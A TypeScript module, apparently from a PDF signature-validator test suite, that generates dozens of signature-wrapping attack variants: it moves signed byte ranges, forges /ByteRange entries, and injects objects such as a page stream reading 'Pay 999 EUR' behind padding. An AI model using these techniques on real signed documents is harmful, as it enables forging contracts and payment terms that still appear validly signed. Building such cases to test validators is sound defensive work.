import { type Attack, family, type Victims } from "./attack.ts";
import { lastStartxref, swap } from "./raw-document.ts";

const RANGE = /\/ByteRange \[([^\]]*)\]/u;

/** Signature wrapping: the second signed part is moved down and the attacker's objects go into the gap. */
export function wrappingAttacks({ table, packed }: Victims): readonly Attack[] {
  const swa = family("SWA");
  const { text, gap, gapEnd } = table;
  const evil = "4 0 obj\n<< /Length 40 >>\nstream\nBT /F1 18 Tf 50 150 Td (Pay 999 EUR) Tj ET\nendstream\nendobj\n";
  const rest = text.slice(gapEnd);
  const value = text.slice(gap, gapEnd);

  /** The byte range was written for an offset of the second part that is wider than the gap: it cannot be changed. */
  const moved = (filling: string, between = value): string => text.slice(0, gap) + between + filling + rest;
  /** The attacker writes a byte range of his own; it is part of what was signed, so the digest breaks, or the rules do. */
  const ranged = (filling: string, values: (start: number) => readonly number[]): string => {
    const changed = moved(filling);
    const numbers = values(gapEnd + filling.length).join(" ");
    return swap(changed, RANGE, `/ByteRange [${numbers.padEnd(44)}]`);
  };
  const xref = (offset: number): string =>
    `xref\n4 1\n${String(offset).padStart(10, "0")} 00000 n \ntrailer\n<< /Size ${table.size} /Root 1 0 R /Prev ${lastStartxref(text)} >>\nstartxref\n${offset + evil.length}\n%%EOF\n`;
  const closed = `>>\nendobj\n${evil}${xref(gapEnd + 10)}`;
  const paddings: readonly (readonly [string, string])[] = [
    ["nothing", ""],
    ["blanks", " ".repeat(200)],
    ["line ends", "\n".repeat(200)],
    ["NUL bytes", "\0".repeat(200)],
    ["zeros", "0".repeat(200)],
    ["a comment", `%${"x".repeat(199)}\n`],
    ["a closed dictionary and an object", closed],
    ["an object", evil],
    ["a kilobyte of hexadecimal digits in brackets", `<${"00".repeat(1024)}>`],
    ["another /Contents", `/Contents <${"00".repeat(100)}>`],
    ["another entry", "/Reason (I agree to pay 999 EUR)"],
    ["another /V", "/V 99 0 R"],
  ];
  const changed = paddings.slice(1);
  return [
    ...changed.map(([name, filling]) =>
      swa(`second part moved behind ${name}, byte range untouched`, "", () => moved(filling)),
    ),
    ...changed.map(([name, filling]) =>
      swa(`second part moved behind ${name}, byte range follows`, "", () =>
        ranged(filling, (start) => [0, gap, start, rest.length]),
      ),
    ),
    ...changed.map(([name, filling]) =>
      swa(`${name} in front of the value`, "", () => text.slice(0, gap) + filling + value + rest),
    ),
    ...changed
      .slice(0, 6)
      .map(([name, filling]) =>
        swa(`copy of the second part behind ${name} at the end`, "", () => text + filling + rest),
      ),
    swa("second part doubled, byte range at the copy", "", () =>
      swap(text + rest, RANGE, `/ByteRange [${`0 ${gap} ${text.length} ${rest.length}`.padEnd(44)}]`),
    ),
    swa("value twice", "", () => moved(value)),
    swa("value doubled inside its brackets", "", () => moved("", `${value.slice(0, -1)}${value.slice(1)}`)),
    swa("value followed by a name that hides the rest", "", () => moved("/X (", value)),
    swa("first part doubled", "", () => text.slice(0, gap) + text),
    swa("junk in front of the header", "", () => `junk\n${text}`),
    swa("a document in front of the header", "", () => `${text.slice(0, 500)}\n${text}`),
    swa("junk in front of a file with cross-reference streams", "", () => `junk\n${packed.text}`),
    swa("value shortened, the rest moved up", "", () => moved("", `${value.slice(0, -41)}>`)),
  ];
}
